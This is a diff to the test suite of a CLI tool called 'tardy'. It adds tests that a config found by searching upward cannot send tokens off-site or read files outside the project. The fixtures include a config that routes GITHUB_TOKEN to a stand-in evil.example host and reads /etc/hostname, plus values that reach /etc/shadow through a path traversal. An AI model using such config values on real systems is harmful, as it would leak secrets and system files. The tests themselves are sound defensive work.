@@ -476,7 +476,7 @@ sources:
   it('finds the config upward, resolves secrets and sends them to that source', async () => {
     const world = fakeIo({
       files: { '/project/tardy.config.yaml': config, '/project/runs.json': JSON.stringify({ runs: [fresh] }) },
-      env: { HOST_TOKEN: 'sesame' },
+      env: { HOST_TOKEN: 'sesame', TARDY_ALLOW_SECRETS: 'HOST_TOKEN@https://host.example' },
       responses: listing(fresh),
     });
     expect(await runProgram(world.io, ['check'])).toBe(0);
@@ -484,6 +484,56 @@ sources:
       { baseUrl: 'https://host.example/api/', credentials: { authorization: 'Bearer sesame' } },
     ]);
     expect(world.printed.out + world.printed.err).not.toContain('sesame');
+  });
+
+  it('sends a secret nowhere because of a config that was found, and uses none at all in CI', async () => {
+    const files = {
+      '/project/app/tardy.config.yaml':
+        'version: 1\nsources: { web: { kind: runs, url: https://evil.example/api, token: "${env:GITHUB_TOKEN}", headers: { x: "${file:/etc/hostname}" } } }\n',
+      '/etc/hostname': 'box',
+    };
+    const env = { GITHUB_TOKEN: 'ghs_secret' };
+    const local = fakeIo({ files, env });
+    await expect(runProgram(local.io, ['check'])).rejects.toThrow(/would send GITHUB_TOKEN to https:\/\/evil\.example/);
+    expect(local.connections).toEqual([]);
+    const job = fakeIo({ files, env: { ...env, GITHUB_ACTIONS: 'true', GITHUB_REPOSITORY: 'acme/web' } });
+    expect(await runProgram(job.io, ['check'])).toBe(3);
+    expect(job.connections.map(({ baseUrl }) => new URL(baseUrl).origin)).toEqual(['https://api.github.com']);
+    expect(job.printed.err).toContain('/project/app/tardy.config.yaml was found');
+  });
+
+  it.each(['policy: /etc/shadow', 'sources: { web: "file:/etc/shadow" }', 'sources: { web: "file:../../etc/shadow" }'])(
+    'reads no file outside of the repository because of a config that was found: %s',
+    async (text) => {
+      const files = { '/project/app/tardy.config.yaml': `version: 1\n${text}\n`, '/etc/shadow': 's3cret: [' };
+      const world = fakeIo({ files });
+      const failure = await runProgram(world.io, ['check']).catch((error: unknown) => error);
+      expect(String(failure)).toMatch(/lies outside of \/project\/app|no source to read/);
+      expect(String(failure)).not.toContain('s3cret');
+    },
+  );
+
+  it('names config, policy and digest in text and JSON, and on stderr where the output has no place for them', async () => {
+    const files = {
+      '/project/app/tardy.config.yaml': `version: 1\nsources: { host: "${HOST}" }\npolicy: strict.yaml\n`,
+      '/project/app/strict.yaml': 'version: 1\n',
+    };
+    const text = fakeIo({ files, responses: listing(fresh) });
+    await runProgram(text.io, ['check']);
+    expect(text.printed.out).toMatch(/^Policy: strict\.yaml \(sha256:[0-9a-f]{12}\); config: tardy\.config\.yaml$/m);
+    const json = fakeIo({ files, responses: listing(fresh) });
+    await runProgram(json.io, ['check', '--json']);
+    expect(JSON.parse(json.printed.out)).toMatchObject({
+      policy: { from: 'strict.yaml' },
+      config: 'tardy.config.yaml',
+    });
+    expect(json.printed.err).toBe('');
+    const rows = fakeIo({ files, responses: listing(fresh) });
+    await runProgram(rows.io, ['check', '--format', 'ndjson']);
+    expect(rows.printed.err).toMatch(/^tardy: Policy: strict\.yaml .*config: tardy\.config\.yaml$/m);
+    const usual = fakeIo({ responses: listing(fresh) });
+    await runProgram(usual.io, ['check', HOST]);
+    expect(usual.printed.out).toMatch(/^Policy: built in \(sha256:[0-9a-f]{12}\)$/m);
   });
 
   it.each([
